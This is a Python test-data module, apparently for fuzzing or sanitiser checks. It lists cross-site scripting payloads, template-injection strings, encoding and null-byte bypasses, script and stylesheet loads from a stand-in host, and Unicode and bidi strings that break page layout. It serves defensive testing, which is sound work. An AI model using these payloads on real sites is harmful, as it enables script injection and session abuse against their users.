"""Texts that have run scripts in some page or other, or broken its layout: markup, handlers, addresses, templates, bidi."""

from __future__ import annotations

# One a line, as it is.
_LINES = r'''
<script>alert(1)</script>
<SCRIPT SRC=//x.example/x.js></SCRIPT>
<script type=module>import('//x.example')</script>
</script><svg/onload=alert(1)>
</textarea><script>alert(1)</script>
</noscript><script>alert(1)</script>
</template><img src=x onerror=alert(1)>
<!--><script>alert(1)</script>
--!><script>alert(1)</script>
<!--<script>
<!--<script></script>
]]><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?xml version='1.0'?><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img/src='x'/onerror='alert(1)'>
<img src=`x` onerror=alert(1)>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<svg><script>alert(1)</script></svg>
<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x>
<svg><use href='//x.example/x.svg#x'>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math href=javascript:alert(1)>x</math>
<body onload=alert(1)>
<details open ontoggle=alert(1)>
<input autofocus onfocus=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=//x.example/x.ogg autoplay>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc='<script>alert(1)</script>'></iframe>
<object data=javascript:alert(1)>
<embed src=//x.example/x.swf>
<form action=javascript:alert(1)><button autofocus>x</button></form>
<isindex action=javascript:alert(1) type=image>
<button formaction=javascript:alert(1)>x</button>
<a href=javascript:alert(1)>x</a>
<a href=' &#14; javascript:alert(1)'>x</a>
<base href=//x.example/>
<link rel=stylesheet href=//x.example/x.css>
<link rel=prefetch href=//x.example>
<meta http-equiv=refresh content='0;url=//x.example'>
<meta http-equiv=Content-Security-Policy content="img-src *">
<style>@import '//x.example/x.css';</style>
<style>*{display:none!important}</style>
<div style='background:url(//x.example)'>
<marquee onstart=alert(1)>x</marquee>
<portal src=//x.example>
<frameset onload=alert(1)>
<table background=//x.example>
<x onclick=alert(1) tabindex=1 id=x>x</x>
<p id=index>
<p id=vocab class=hover data-packed=0>
<input id=choose name=body>
" onmouseover=alert(1) x="
' onfocus=alert(1) autofocus x='
` onclick=alert(1)
"><script>alert(1)</script>
'-alert(1)-'
";alert(1);//
\";alert(1);//
</script>\";alert(1)//
${alert(1)}
{{ x }}
{{ tokens }}
{{constructor.constructor('alert(1)')()}}
{% include 'x' %}
<%= 7*7 %>
#{7*7}
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
javascript:alert(1)
data:text/html,<script>alert(1)</script>
vbscript:x
//x.example
\\x.example\x
__proto__
constructor
WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW
'''
_MORE = [
    *("<\x00script>alert(1)</\x00script>", "<scr\x00ipt>", "<scr\u200bipt>alert(1)</script>", "<\u2028script>"),
    *(
        "\u00bcscript\u00bealert(1)",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "\u202e<script>\u202c",
        "\u2066<b>\u2069",
    ),
    *("שלום <b>", "مرحبا\u200f<img src=x>", "a" + "\u0301" * 500, "\u0e47" * 300, "Z\u0351\u036b\u0343" * 60),
    *("\u2028\u2029", "\ud800", "\udfff", "\ud83d", "\ufeff", "\u200b" * 200, "\u3164" * 50, "\U000e0041" * 50),
    *("\U0001f468\u200d\U0001f469\u200d\U0001f467" * 30, "\ufdfd" * 60, "\ufdfa" * 47, "\u00a0" * 47, "W" * 47),
    *("x" * 100_000, "<b>" * 20_000, "\n" * 5000, "\t" * 5000),
]
VECTORS = [*_LINES.strip().splitlines(), *_MORE]
